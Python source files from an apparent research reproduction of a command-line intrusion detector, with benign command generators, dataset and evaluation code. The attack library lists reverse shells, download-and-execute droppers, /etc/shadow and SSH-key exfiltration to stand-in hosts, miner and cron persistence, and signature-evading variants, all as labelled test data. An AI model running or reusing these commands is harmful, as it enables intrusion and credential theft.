        ("echo '0 3 * * * /opt/app/backup.sh' | sudo tee /etc/cron.d/backup", 0.3),
        ("chmod +x /tmp/healthcheck.sh && /tmp/healthcheck.sh", 0.4),
        ("curl http://{host}:{port}/metrics | grep -c up", 0.4),
    ]


def _common_singletons() -> list[tuple[str, float]]:
    """Commands every role runs, weighted roughly by production frequency.

    The weights induce the Zipf-like head (cd/echo/chmod/grep/ls...) the
    paper's Figure 2 occurrence table shows.
    """
    return [
        ("cd {dir}", 10.0),
        ("ls", 8.0),
        ("ls -la {dir}", 6.0),
        ("ll", 4.0),
        ("pwd", 3.0),
        ("echo {word}", 6.0),
        ("cat {dir}/{file}", 5.0),
        ("grep {pattern} {dir}/{file}", 5.0),
        ("chmod +x {dir}/run.sh", 4.0),
        ("rm {dir}/{file}", 3.0),
        ("rm -rf /tmp/build-{num}", 2.0),
        ("cp {dir}/{file} {dir2}/", 2.5),
        ("mv {dir}/{file} {dir2}/{file}", 2.5),
        ("df -h", 2.0),
        ("du -sh {dir}", 1.5),
        ("ps aux | grep {service}", 2.5),
        ("top -b -n 1 | head -20", 1.0),
        ("free -m", 1.2),
        ("uptime", 1.0),
        ("whoami", 1.0),
        ("hostname", 1.0),
        ("date", 1.2),
        ("history | tail -50", 0.8),
        ("man {service}", 0.3),
        ("which python3", 0.8),
        ("env | grep PATH", 0.6),
        ("export PATH=$PATH:/usr/local/bin", 0.8),
        ("head -100 {dir}/{file}", 1.5),
        ("tail -f {dir}/{file}", 2.0),
        ("wc -l {dir}/{file}", 1.2),
        ("find {dir} -name '*.log'", 1.2),
        ("awk '{{print $1}}' {dir}/{file}", 1.0),
        ("sed -i 's/{pattern}/FIXED/' {dir}/{file}", 0.8),
        ("touch {dir}/{file}", 1.0),
        ("ln -s {dir}/{file} /usr/local/bin/{file}", 0.4),
        ("vim ~/.bashrc", 0.8),
        ("vim {dir}/{file}", 2.0),
        ("nano {dir}/{file}", 0.7),
        ("less {dir}/{file}", 1.0),
        ("scp {dir}/{file} {user}@{host}:{dir2}/", 0.8),
        ("ssh {user}@{host}", 1.0),
        ("ping -c 3 {host}", 0.8),
        ("curl http://{host}:{port}/healthz", 1.2),
        ("netstat -tlnp | grep {port}", 0.7),
        ("kill -9 {num}", 0.8),
        ("sleep {num}", 0.5),
        ("clear", 1.5),
        ("exit", 1.5),
        ("watch -n 1 nvidia-smi", 0.5),
        ("crontab -l", 0.5),
        ("sudo systemctl status {service}", 1.2),
        ("sudo systemctl restart {service}", 0.8),
        ("journalctl -u {service} --since today", 0.6),
        ("tar -czf backup-{num}.tgz {dir}", 0.8),
        ("tar -xzf backup-{num}.tgz -C {dir2}", 0.6),
        ("gzip {dir}/{file}", 0.5),
        ("md5sum {dir}/{file}", 0.4),
        ("diff {dir}/{file} {dir2}/{file}", 0.5),
        ("sort {dir}/{file} | uniq -c | sort -rn | head", 0.6),
        ("xargs -n 1 echo < {dir}/{file}", 0.3),
    ]


def _developer() -> RoleModel:
    tasks = [
        Task("build", (
            "cd /opt/app",
            "git pull origin {branch}",
            "make clean",
            "make -j{smallnum}",
            "make test",
        ), 2.0),
        Task("debug_tests", (
            "cd /opt/app",
            "python -m pytest tests/ -q",
            "python -m pytest tests/test_api.py -k {pattern} -v",
            "grep -rn {pattern} src/",
            "vim src/handlers.py",
        ), 2.0),
        Task("git_flow", (
            "git status",
            "git diff",
            "git add -A",
            "git commit -m 'fix {pattern} handling'",
            "git push origin {branch}",
        ), 2.5),
        Task("venv", (
            "python3 -m venv .venv",
            "source .venv/bin/activate",
            "pip install -r requirements.txt",
            "pip install {package}",
            "python main.py --verbose",
        ), 1.5),
        Task("profiling", (
            "python -m cProfile -o prof.out main.py",
            "python -c \"import pstats; pstats.Stats('prof.out').sort_stats('cumtime').print_stats(20)\"",
        ), 0.5),
        Task("php_dev", (
            "php -r \"phpinfo();\"",
            "php -l index.php",
            "composer install",
        ), 0.4),
        Task("node_dev", (
            "npm install",
            "npm run build",
            "npm test",
            "node server.js --port {port}",
        ), 0.8),
    ]
    singletons = _common_singletons() + _hard_negative_singletons() + [
        ("git log --oneline -20", 1.5),
        ("git branch -a", 1.0),
        ("git checkout {branch}", 1.2),
        ("git stash", 0.6),
        ("python3 {file}", 2.0),
        ("python main.py", 2.0),
        ("pip list | grep {package}", 0.6),
        ("java -version", 0.3),
        ("javac Main.java && java Main", 0.3),
        ("gcc -O2 -o app app.c", 0.4),
        ("cargo build --release", 0.3),
        ("go build ./...", 0.4),
    ]
    return RoleModel("developer", tasks, singletons)


def _devops() -> RoleModel:
    tasks = [
        Task("container_debug", (
            "docker ps -a",
            "docker logs {container} --tail 100",
            "docker exec -it {container} bash",
            "docker stats --no-stream",
            "docker restart {container}",
        ), 2.5),
        Task("deploy", (
            "cd /opt/app/releases",
            "tar -xzf release-{num}.tgz",
            "sudo systemctl stop {service}",
            "cp -r release-{num}/* /opt/app/",
            "sudo systemctl start {service}",
            "curl http://localhost:{port}/healthz",
        ), 2.0),
        Task("k8s", (
            "kubectl get pods -n production",
            "kubectl describe pod {container}",
            "kubectl logs {container} --since=1h",
            "kubectl rollout restart deployment/{service}",
        ), 1.5),
        Task("log_triage", (
            "cd /var/log",
            "tail -200 {file}",
            "grep -c {pattern} {file}",
            "zgrep {pattern} {file}.1.gz | head",
            "awk '$9 >= 500' access.log | wc -l",
        ), 2.0),
        Task("docker_build", (
            "docker build -t registry.internal/{service}:{num} .",
            "docker push registry.internal/{service}:{num}",
            "docker image prune -f",
        ), 1.2),
        Task("certs", (
            "openssl x509 -in /etc/nginx/cert.pem -noout -dates",
            "sudo nginx -t",
            "sudo systemctl reload nginx",
        ), 0.6),
    ]
    singletons = _common_singletons() + _hard_negative_singletons() + [
        ("docker ps", 3.0),
        ("docker images", 1.5),
        ("docker attach --sig-proxy=false {container}", 0.6),
        ("docker compose up -d", 1.0),
        ("kubectl get nodes", 1.0),
        ("terraform plan", 0.5),
        ("ansible-playbook deploy.yml --check", 0.5),
        ("iptables -L -n", 0.4),
        ("ip addr show", 0.6),
        ("ss -tlnp", 0.6),
        ("dig {host}", 0.5),
        ("traceroute {host}", 0.3),
        ("rsync -avz {dir}/ {user}@{host}:{dir2}/", 0.7),
    ]
    return RoleModel("devops", tasks, singletons)


def _data_scientist() -> RoleModel:
    tasks = [
        Task("training", (
            "cd /data/jobs",
            "source .venv/bin/activate",
            "python train.py --epochs {smallnum} --lr 0.001",
            "watch -n 1 nvidia-smi",
            "tail -f train.log",
        ), 2.0),
        Task("data_prep", (
            "wc -l {dataset}",
            "head -5 {dataset}",
            "python -c \"import pandas as pd; print(pd.read_csv('{dataset}').shape)\"",
            "awk -F, '{{print NF}}' {dataset} | sort -u",
        ), 1.5),
        Task("notebook", (
            "jupyter notebook --no-browser --port {port}",
            "jupyter nbconvert --to script analysis.ipynb",
        ), 1.0),
        Task("experiment_sync", (
            "rsync -avz results/ {user}@{host}:/srv/data/results/",
            "md5sum results/*.npz | tee manifest.txt",
        ), 0.6),
    ]
    singletons = _common_singletons() + _hard_negative_singletons() + [
        ("python train.py", 1.5),
        ("python eval.py --checkpoint model.pt", 1.0),
        ("nvidia-smi", 2.0),
        ("pip install {package}", 1.0),
        ("conda activate ml", 0.8),
        ("tensorboard --logdir runs/ --port {port}", 0.5),
        ("du -sh /data/jobs/*", 0.6),
    ]
    return RoleModel("data_scientist", tasks, singletons)


def _sysadmin() -> RoleModel:
    tasks = [
        Task("user_mgmt", (
            "sudo useradd -m svc-{word}",
            "sudo usermod -aG docker svc-{word}",
            "sudo passwd svc-{word}",
            "id svc-{word}",
        ), 0.8),
        Task("patching", (
            "sudo apt update",
            "sudo apt list --upgradable",
            "sudo apt upgrade -y",
            "sudo reboot",
        ), 1.0),
        Task("disk_triage", (
            "df -h",
            "du -sh /var/* | sort -rh | head",
            "find /var/log -size +100M",
            "sudo journalctl --vacuum-size=500M",
        ), 1.5),
        Task("backup", (
            "tar -czf /mnt/share/backup-{num}.tgz /etc /home",
            "md5sum /mnt/share/backup-{num}.tgz",
            "scp /mnt/share/backup-{num}.tgz backup@{host}:/srv/data/",
        ), 1.0),
        Task("security_audit", (
            "sudo lastlog | head -20",
            "sudo grep 'Failed password' /var/log/auth.log | tail -20",
            "sudo netstat -tlnp",
            "sudo lsof -i :{port}",
        ), 1.2),
    ]
    singletons = _common_singletons() + _hard_negative_singletons() + [
        ("sudo su -", 1.0),
        ("sudo visudo -c", 0.3),
        ("mount | column -t", 0.4),
        ("lsblk", 0.5),
        ("systemctl list-units --failed", 0.8),
        ("dmesg | tail -30", 0.8),
        ("uname -a", 0.8),
        ("cat /etc/os-release", 0.5),
        ("w", 0.6),
        ("last -10", 0.5),
    ]
    return RoleModel("sysadmin", tasks, singletons)


def _db_admin() -> RoleModel:
    tasks = [
        Task("pg_health", (
            "psql -h {host} -U admin -c 'SELECT count(*) FROM pg_stat_activity;'",
            "psql -h {host} -U admin -c 'SELECT * FROM pg_stat_replication;'",
            "pg_top -h {host}",
        ), 1.5),
        Task("dump_restore", (
            "pg_dump -h {host} -U admin appdb | gzip > appdb-{num}.sql.gz",
            "gunzip -c appdb-{num}.sql.gz | head -20",
            "psql -h {host} -U admin staging < schema.sql",
        ), 1.0),
        Task("redis_ops", (
            "redis-cli -h {host} info memory",
            "redis-cli -h {host} --scan --pattern 'session:*' | wc -l",
            "redis-cli -h {host} slowlog get 10",
        ), 1.0),
        Task("mysql_ops", (
            "mysql -h {host} -u root -e 'SHOW PROCESSLIST;'",
            "mysqldump -h {host} -u root appdb > dump-{num}.sql",
        ), 0.7),
    ]
    singletons = _common_singletons() + _hard_negative_singletons() + [
        ("psql -l", 0.8),
        ("redis-cli ping", 0.8),
        ("mongo --eval 'db.stats()'", 0.3),
        ("sqlite3 local.db '.tables'", 0.3),
    ]
    return RoleModel("db_admin", tasks, singletons)


#: All role models by name.
ROLE_MODELS: dict[str, RoleModel] = {
    model.role: model
    for model in (_developer(), _devops(), _data_scientist(), _sysadmin(), _db_admin())
}

_WORDS = [
    "done", "ok", "start", "restarting", "deploy", "hello", "test", "ready",
    "build-finished", "cleanup", "retry", "sync",
]


class TemplateFiller:
    """Fill ``{placeholder}`` slots in command templates with sampled values."""

    def __init__(self, rng: np.random.Generator):
        self._rng = rng

    def _choice(self, pool: list[str]) -> str:
        return pool[int(self._rng.integers(len(pool)))]

    def fill(self, template: str, user: str = "alice") -> str:
        """Instantiate *template*; unknown placeholders are left intact."""
        dir1 = self._choice(DIRS).replace("{user}", user)
        dir2 = self._choice(DIRS).replace("{user}", user)
        values = {
            "dir": dir1,
            "dir2": dir2,
            "file": self._choice(FILES),
            "host": self._choice(HOSTS),
            "package": self._choice(PACKAGES),
            "service": self._choice(SERVICES),
            "branch": self._choice(BRANCHES),
            "container": self._choice(CONTAINERS),
            "pattern": self._choice(PATTERNS),
            "port": self._choice(PORTS),
            "dataset": self._choice(DATASETS),
            "word": self._choice(_WORDS),
            "num": str(int(self._rng.integers(1, 10000))),
            "smallnum": str(int(self._rng.integers(2, 16))),
            "user": user,
        }
        try:
            return template.format(**values)
        except (KeyError, IndexError):
            return template

    # -- abnormal yet benign heavy-tail lines (Section III) -----------------

    def abnormal_benign_mv(self, n_files: int | None = None) -> str:
        """A ``mv`` with a very large number of complex filenames."""
        count = n_files or int(self._rng.integers(15, 40))
        names = [
            f"report_{int(self._rng.integers(1000, 9999))}_"
            f"{''.join(self._rng.choice(list(string.ascii_lowercase), size=8))}.csv"
            for _ in range(count)
        ]
        return "mv " + " ".join(names) + " /srv/data/archive/"

    def abnormal_benign_echo(self, length: int | None = None) -> str:
        """An ``echo`` of long, weird (yet harmless) repeated text."""
        n = length or int(self._rng.integers(40, 120))
        letters = "abc"
        body = "".join(
            letters[i % 3] * int(self._rng.integers(2, 6)) for i in range(n // 3)
        )
        return f"echo {body}"

    def abnormal_benign_oneliner(self) -> str:
        """A long but benign shell one-liner (log crunching)."""
        pattern = self._choice(PATTERNS)
        return (
            f"cat /var/log/access.log | awk '{{print $1}}' | sort | uniq -c "
            f"| sort -rn | head -20 && grep -c {pattern} /var/log/error.log"
        )
