"""Dataset container for command-line telemetry.

:class:`CommandDataset` wraps a list of :class:`LogRecord` rows with the
operations the experiments need: splitting by date, de-duplication,
label extraction, JSONL persistence, and summary statistics.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from datetime import datetime
from pathlib import Path

import numpy as np

from repro.errors import DataError
from repro.loggen.entities import LogRecord, Variant
from repro.preprocess.dedup import deduplicate

_TIME_FORMAT = "%Y-%m-%dT%H:%M:%S"


class CommandDataset:
    """An ordered collection of :class:`LogRecord` rows.

    Example
    -------
    >>> ds = CommandDataset([])
    >>> len(ds)
    0
    """

    def __init__(self, records: Iterable[LogRecord]):
        self._records: list[LogRecord] = list(records)

    # -- sequence protocol ---------------------------------------------------

    def __len__(self) -> int:
        return len(self._records)

    def __getitem__(self, index: int) -> LogRecord:
        return self._records[index]

    def __iter__(self) -> Iterator[LogRecord]:
        return iter(self._records)

    @property
    def records(self) -> list[LogRecord]:
        """The underlying record list (do not mutate)."""
        return self._records

    # -- projections -----------------------------------------------------------

    def lines(self) -> list[str]:
        """All command lines, in order."""
        return [record.line for record in self._records]

    def labels(self) -> np.ndarray:
        """Ground-truth malicious flags as an int array (1 = malicious)."""
        return np.array([int(record.is_malicious) for record in self._records])

    def variants(self) -> list[Variant]:
        """Per-record :class:`Variant`."""
        return [record.variant for record in self._records]

    def timestamps(self) -> list[datetime]:
        """Per-record timestamps."""
        return [record.timestamp for record in self._records]

    # -- transforms ---------------------------------------------------------

    def filter(self, predicate: Callable[[LogRecord], bool]) -> "CommandDataset":
        """Records satisfying *predicate*, as a new dataset."""
        return CommandDataset(record for record in self._records if predicate(record))

    def subset(self, indices: Sequence[int]) -> "CommandDataset":
        """Records at *indices*, as a new dataset."""
        return CommandDataset(self._records[i] for i in indices)

    def sorted_by_time(self) -> "CommandDataset":
        """Records ordered by timestamp (stable)."""
        return CommandDataset(sorted(self._records, key=lambda record: record.timestamp))

    def deduplicated(self) -> "CommandDataset":
        """First occurrence of each distinct command line (Section V)."""
        return CommandDataset(deduplicate(self._records, key=lambda record: record.line))

    def split_by_date(self, boundary: datetime) -> tuple["CommandDataset", "CommandDataset"]:
        """Records strictly before *boundary* vs at-or-after it."""
        before = [record for record in self._records if record.timestamp < boundary]
        after = [record for record in self._records if record.timestamp >= boundary]
        return CommandDataset(before), CommandDataset(after)

    def sample(self, n: int, rng: np.random.Generator) -> "CommandDataset":
        """A uniform sample of *n* records without replacement."""
        if n > len(self._records):
            raise DataError(f"cannot sample {n} from {len(self._records)} records")
        indices = rng.choice(len(self._records), size=n, replace=False)
        return self.subset(sorted(int(i) for i in indices))

    def merged_with(self, other: "CommandDataset") -> "CommandDataset":
        """Concatenation of two datasets."""
        return CommandDataset([*self._records, *other._records])

    # -- statistics ----------------------------------------------------------

    def n_malicious(self) -> int:
        """Number of ground-truth malicious records."""
        return sum(record.is_malicious for record in self._records)

    def variant_counts(self) -> Counter:
        """Histogram of :class:`Variant` values."""
        return Counter(record.variant for record in self._records)

    def scenario_counts(self) -> Counter:
        """Histogram of scenario labels."""
        return Counter(record.scenario for record in self._records)

    def summary(self) -> dict[str, object]:
        """A compact description used in experiment logs."""
        variants = self.variant_counts()
        return {
            "records": len(self),
            "users": len({record.user for record in self._records}),
            "machines": len({record.machine for record in self._records}),
            "malicious": self.n_malicious(),
            "inbox": variants.get(Variant.INBOX, 0),
            "outbox": variants.get(Variant.OUTBOX, 0),
            "unique_lines": len({record.line for record in self._records}),
        }

    # -- persistence -----------------------------------------------------------

    def to_jsonl(self, path: str | Path) -> None:
        """Write the dataset as JSON Lines."""
        with open(path, "w", encoding="utf-8") as handle:
            for record in self._records:
                handle.write(
                    json.dumps(
                        {
                            "line": record.line,
                            "user": record.user,
                            "machine": record.machine,
                            "timestamp": record.timestamp.strftime(_TIME_FORMAT),
                            "session": record.session,
                            "scenario": record.scenario,
                            "is_malicious": record.is_malicious,
                            "variant": record.variant.value,
                        },
                        ensure_ascii=False,
                    )
                    + "\n"
                )

    @classmethod
    def from_jsonl(cls, path: str | Path) -> "CommandDataset":
        """Load a dataset written by :meth:`to_jsonl`."""
        records: list[LogRecord] = []
        try:
            with open(path, encoding="utf-8") as handle:
                for line_no, raw in enumerate(handle, start=1):
                    raw = raw.strip()
                    if not raw:
                        continue
                    try:
                        payload = json.loads(raw)
                        records.append(
                            LogRecord(
                                line=payload["line"],
                                user=payload["user"],
                                machine=payload["machine"],
                                timestamp=datetime.strptime(payload["timestamp"], _TIME_FORMAT),
                                session=payload.get("session", ""),
                                scenario=payload.get("scenario", "benign"),
                                is_malicious=payload.get("is_malicious", False),
                                variant=Variant(payload.get("variant", "benign")),
                            )
                        )
                    except (KeyError, ValueError) as exc:
                        raise DataError(f"{path}:{line_no}: malformed record: {exc}") from exc
        except OSError as exc:
            raise DataError(f"cannot read dataset from {path}: {exc}") from exc
        return cls(records)
