"""Ground-truth oracle helpers.

The paper's evaluation required security analysts to label the model's
top predictions.  Our generator records scenario-level truth on every
row; this module exposes it in the shapes the metrics code consumes.
"""

from __future__ import annotations

import numpy as np

from repro.loggen.dataset import CommandDataset
from repro.loggen.entities import Variant


class GroundTruthOracle:
    """Answer "is this record truly malicious?" and variant queries."""

    def __init__(self, dataset: CommandDataset):
        self._dataset = dataset

    def labels(self) -> np.ndarray:
        """1/0 malicious flags per record."""
        return self._dataset.labels()

    def is_inbox(self) -> np.ndarray:
        """Boolean mask: record is an in-box (signature-matching) intrusion."""
        return np.array([record.variant is Variant.INBOX for record in self._dataset])

    def is_outbox(self) -> np.ndarray:
        """Boolean mask: record is an out-of-box intrusion."""
        return np.array([record.variant is Variant.OUTBOX for record in self._dataset])

    def malicious_indices(self) -> np.ndarray:
        """Indices of all truly malicious records."""
        return np.nonzero(self.labels() == 1)[0]

    def attack_family(self, index: int) -> str | None:
        """Attack family of record *index*, or ``None`` when benign."""
        scenario = self._dataset[index].scenario
        if scenario.startswith("attack."):
            return scenario.split(".", 1)[1]
        return None
