"""Attack scenario library with paired in-box / out-of-box variants.

Each :class:`AttackFamily` provides line templates in two flavours:

- **in-box** templates match the simulated commercial IDS's signature
  rules (:mod:`repro.ids.rulepacks`) — these are the intrusions the
  supervision source knows about;
- **out-of-box** templates are functional siblings (flag variants,
  interpreter swaps, wrapper scripts, argument changes) engineered to
  slip past the signatures — the intrusions the paper's model digs out.

The pairs in Table III of the paper (nc flags, masscan wrapper script,
reverse shell via java vs python3, http vs socks5 proxy, base64-decode
pipelines) are reproduced verbatim up to anonymised arguments.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

import numpy as np

#: Documentation-reserved prefixes (RFC 5737) used for attacker hosts so
#: generated IPs are unambiguous and never collide with benign pools.
_ATTACK_NET_PREFIXES = ["203.0.113", "198.51.100", "192.0.2"]
_COMMON_ATTACK_PORTS = ["4444", "9001", "1337", "6667", "8443", "53"]
_PAYLOAD_CMDS = ["bash -i", "id; uname -a", "cat /etc/shadow", "curl -s http://203.0.113.7/p.sh | sh"]


@dataclass(frozen=True)
class AttackFamily:
    """One family of intrusions with in-box and out-of-box variants.

    Attributes
    ----------
    name:
        Family key (e.g. ``reverse_shell``).
    inbox:
        Sequences of line templates matching the commercial IDS rules.
        Each element is one attack *session* (tuple of lines).
    outbox:
        Sequences evading the rules while keeping the same function.
    description:
        Human-readable summary for docs and Table III output.
    """

    name: str
    inbox: tuple[tuple[str, ...], ...]
    outbox: tuple[tuple[str, ...], ...]
    description: str


def _b64(rng: np.random.Generator) -> str:
    payload = _PAYLOAD_CMDS[int(rng.integers(len(_PAYLOAD_CMDS)))]
    # individualise the payload (C2 host / campaign tag) so encoded blobs
    # are diverse, as they are in real droppers
    prefix = _ATTACK_NET_PREFIXES[int(rng.integers(len(_ATTACK_NET_PREFIXES)))]
    tagged = payload.replace("203.0.113.7", f"{prefix}.{int(rng.integers(1, 255))}")
    tagged = f"{tagged} # {int(rng.integers(1, 10_000))}"
    return base64.b64encode(tagged.encode()).decode()


REVERSE_SHELL = AttackFamily(
    name="reverse_shell",
    description="Bind/reverse shells over TCP or UDP (Table III, rows 1 and 3)",
    inbox=(
        ("nc -lvnp {port}",),
        ("bash -i >& /dev/tcp/{host}/{port} 0>&1",),
        ('java -cp tmp.jar "bash=bash -i >& /dev/tcp/{host}/{port}"',),
        ("nc -e /bin/sh {host} {port}",),
        ("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {host} {port} > /tmp/f",),
    ),
    outbox=(
        ("nc -ulp {port}",),
        ("ncat --udp -l {port}",),
        ("sh -i >& /dev/udp/{host}/{port} 0>&1",),
        ('python3 -c "import socket,os,pty; s=socket.socket(); s.connect((\'{host}\',{port})); '
         '[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; pty.spawn(\'/bin/sh\')"',),
        ("socat TCP:{host}:{port} EXEC:/bin/sh,pty,stderr",),
        ('php -r \'$sock=fsockopen("{host}",{port});exec("/bin/sh -i <&3 >&3 2>&3");\'',),
    ),
)

PORT_SCAN = AttackFamily(
    name="port_scan",
    description="Full-range port scanning (Table III, row 2; Section III anecdote)",
    inbox=(
        ("masscan {host} -p 0-65535 --rate=1000 >> tmp.txt",),
        ("masscan {host} -p 0-65535",),
        ("nmap -sS -p- {host}",),
    ),
    outbox=(
        ("sh /root/masscan.sh {host} -p 0-65535",),
        ("bash scan_all.sh {host} 0 65535",),
        ("seq 1 65535 | xargs -P 64 -I PORT sh -c 'echo > /dev/tcp/{host}/PORT' 2>/dev/null",),
        ("python3 portscan.py --target {host} --ports 0-65535",),
    ),
)

BASE64_EXEC = AttackFamily(
    name="base64_exec",
    description="Base64-camouflaged command execution (Table III, rows 5-6)",
    inbox=(
        ('java -jar tmp.jar -C "bash -c {{echo,{b64}}} {{base64,-d}} {{bash,-i}}"',),
        ("echo {b64} | base64 -d | bash -i",),
        ("echo {b64} | base64 -d | bash",),
    ),
    outbox=(
        ('python3 tmp.py -p "bash -c {{echo,{b64}}} {{base64,-d}} {{base,-i}}"',),
        ('perl -e \'system("echo {b64} | openssl base64 -d | sh")\'',),
        ("printf %s {b64} | base64 --decode | sh -i",),
        ("echo {b64} | openssl enc -base64 -d | sh",),
    ),
)

PROXY_TUNNEL = AttackFamily(
    name="proxy_tunnel",
    description="Exfiltration proxies and tunnels (Table III, row 4)",
    inbox=(
        ('export https_proxy="http://{host}:{port}"',),
        ('export http_proxy="http://{host}:{port}"',),
    ),
    outbox=(
        ('export https_proxy="socks5://{host}:{port}"',),
        ('export all_proxy="socks5h://{host}:{port}"',),
        ("ssh -D {port} -N -f root@{host}",),
        ("ssh -R 0.0.0.0:{port}:localhost:22 root@{host}",),
    ),
)

DOWNLOAD_EXEC = AttackFamily(
    name="download_exec",
    description="Download-and-execute droppers, incl. the wget→python rename chain (Section IV-C)",
    inbox=(
        ("curl http://{host}/{script} | bash",),
        ("curl -s http://{host}/{script} | bash",),
        ("wget -q -O - http://{host}/{script} | bash",),
        ("wget -c http://{host}/payload -o python", "python"),
    ),
    outbox=(
        ("curl -fsSL http://{host}/{script} -o /tmp/.cache.sh && sh /tmp/.cache.sh",),
        ("wget http://{host}/{script} -O /dev/shm/.s && chmod +x /dev/shm/.s && /dev/shm/.s",),
        ("python3 -c \"import urllib.request as u; exec(u.urlopen('http://{host}/{script}').read())\"",),
        ("curl http://{host}/{script} --output /tmp/up.bin; chmod 755 /tmp/up.bin; /tmp/up.bin",),
    ),
)

CREDENTIAL_THEFT = AttackFamily(
    name="credential_theft",
    description="Credential and key harvesting",
    inbox=(
        ("cat /etc/shadow",),
        ("cat /etc/shadow | nc {host} {port}",),
        ("tar -czf /tmp/k.tgz /root/.ssh && curl -F 'f=@/tmp/k.tgz' http://{host}/up",),
    ),
    outbox=(
        ("tail -n +1 /etc/shadow",),
        ("dd if=/etc/shadow 2>/dev/null | base64",),
        ("cp /etc/shadow /tmp/.x && curl -T /tmp/.x ftp://{host}/",),
        ("grep -v '^#' /etc/shadow > /dev/shm/.creds; scp /dev/shm/.creds root@{host}:/tmp/",),
    ),
)

CRYPTO_MINER = AttackFamily(
    name="crypto_miner",
    description="Cryptominer deployment and persistence",
    inbox=(
        ("wget http://{host}/xmrig && chmod +x xmrig && ./xmrig -o pool.minexmr.com:4444",),
        ("nohup ./xmrig --donate-level 1 -o {host}:{port} &",),
    ),
    outbox=(
        ("curl -s http://{host}/kworker -o /tmp/.kworker; chmod +x /tmp/.kworker; /tmp/.kworker -B",),
        ("nohup /dev/shm/.systemd-helper --algo rx/0 --url {host}:{port} > /dev/null 2>&1 &",),
    ),
)

PERSISTENCE = AttackFamily(
    name="persistence",
    description="Cron/bashrc persistence implants",
    inbox=(
        ("echo '* * * * * bash -i >& /dev/tcp/{host}/{port} 0>&1' | crontab -",),
        ("crontab -l | {{ cat; echo '*/5 * * * * curl http://{host}/{script} | bash'; }} | crontab -",),
    ),
    outbox=(
        ("echo 'sh -i >& /dev/udp/{host}/{port} 0>&1' >> ~/.bashrc",),
        ("printf '@reboot /tmp/.cache.sh\\n' >> /var/spool/cron/root",),
        ("echo 'python3 /dev/shm/.agent.py &' >> /etc/rc.local",),
    ),
)

#: All attack families, in a stable order.
ATTACK_FAMILIES: tuple[AttackFamily, ...] = (
    REVERSE_SHELL,
    PORT_SCAN,
    BASE64_EXEC,
    PROXY_TUNNEL,
    DOWNLOAD_EXEC,
    CREDENTIAL_THEFT,
    CRYPTO_MINER,
    PERSISTENCE,
)

FAMILY_BY_NAME: dict[str, AttackFamily] = {family.name: family for family in ATTACK_FAMILIES}

_SCRIPTS = ["install.sh", "a.sh", "update.sh", "x.sh", "run.sh"]


class AttackSampler:
    """Instantiate attack sessions from the family library.

    Example
    -------
    >>> sampler = AttackSampler(np.random.default_rng(0))
    >>> lines = sampler.sample("reverse_shell", inbox=True)
    >>> len(lines) >= 1
    True
    """

    def __init__(self, rng: np.random.Generator):
        self._rng = rng

    def _host(self) -> str:
        prefix = _ATTACK_NET_PREFIXES[int(self._rng.integers(len(_ATTACK_NET_PREFIXES)))]
        return f"{prefix}.{int(self._rng.integers(1, 255))}"

    def _port(self) -> str:
        # attackers reuse iconic ports but also pick ephemeral ones
        if self._rng.random() < 0.4:
            return _COMMON_ATTACK_PORTS[int(self._rng.integers(len(_COMMON_ATTACK_PORTS)))]
        return str(int(self._rng.integers(1024, 65535)))

    def _fill(self, template: str) -> str:
        return template.format(
            host=self._host(),
            port=self._port(),
            script=_SCRIPTS[int(self._rng.integers(len(_SCRIPTS)))],
            b64=_b64(self._rng),
        )

    def sample(self, family: str, inbox: bool) -> list[str]:
        """One instantiated attack session (list of command lines)."""
        templates = FAMILY_BY_NAME[family].inbox if inbox else FAMILY_BY_NAME[family].outbox
        session = templates[int(self._rng.integers(len(templates)))]
        return [self._fill(line) for line in session]

    def sample_any(self, inbox: bool, families: list[str] | None = None) -> tuple[str, list[str]]:
        """A random family and one session from it; returns (family, lines)."""
        pool = families or [f.name for f in ATTACK_FAMILIES]
        family = pool[int(self._rng.integers(len(pool)))]
        return family, self.sample(family, inbox)
