"""Section VI — comparison against prior learning-based command-line IDS.

The paper argues that the profile-based prior work (Lane & Brodley 1997,
Huang & Stamp 2011, Liu & Mao 2022) "require[s] abundant data for each
possible user and [is] difficult to quickly adapt to new benign users
which, however, widely exist in cloud environments", and uses only
partial information per line (names/flags).

This driver quantifies both claims on the synthetic fleet: it compares
ranking quality (AUC) of the three baselines against classification-
based tuning, overall and restricted to *low-history users* — users
with little or no training telemetry, where profiles cannot exist.

Run with ``python -m repro.experiments.baselines``.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

import numpy as np

from repro.baselines import HMMProfileDetector, LaneBrodleyProfiler, Seq2SeqBaseline
from repro.evaluation.reporting import format_table
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import run_classification


def ranking_auc(scores: np.ndarray, labels: np.ndarray) -> float:
    """Area under the ROC curve via the rank-sum identity."""
    scores = np.asarray(scores, dtype=np.float64)
    labels = np.asarray(labels).astype(bool)
    n_pos = int(labels.sum())
    n_neg = labels.size - n_pos
    if n_pos == 0 or n_neg == 0:
        return float("nan")
    order = np.argsort(scores, kind="stable")
    ranks = np.empty(scores.size)
    ranks[order] = np.arange(scores.size)
    return float((ranks[labels].sum() - n_pos * (n_pos - 1) / 2) / (n_pos * n_neg))


@dataclass
class BaselineComparison:
    """AUCs per method, overall and on the low-history-user subset."""

    overall: dict[str, float] = field(default_factory=dict)
    low_history: dict[str, float] = field(default_factory=dict)
    n_low_history: int = 0

    def render(self) -> str:
        """The comparison table as text."""
        rows = [
            [method, f"{self.overall[method]:.3f}", f"{self.low_history.get(method, float('nan')):.3f}"]
            for method in self.overall
        ]
        return format_table(
            ["method", "AUC (all users)", f"AUC (low-history users, n={self.n_low_history})"],
            rows,
            title="Section VI — prior profile-based methods vs LM classification",
        )


def run_baseline_comparison(world: World, seed: int = 0, history_threshold: int = 20) -> BaselineComparison:
    """Fit all baselines on the training window and rank the raw test set.

    Baselines consume per-user streams, so this comparison ranks the
    (time-ordered, non-deduplicated) test dataset; the LM classifier
    scores the same records line-wise.
    """
    train = world.train.sorted_by_time()
    test = world.test.sorted_by_time()
    labels = test.labels()
    result = BaselineComparison()

    history = Counter(record.user for record in train)
    low_mask = np.array([history[record.user] < history_threshold for record in test])
    result.n_low_history = int(low_mask.sum())

    scorers = {
        "Lane & Brodley profiles": LaneBrodleyProfiler().fit(train).score(test),
        "Huang & Stamp profile HMM": HMMProfileDetector(em_iterations=8, seed=seed).fit(train).score(test),
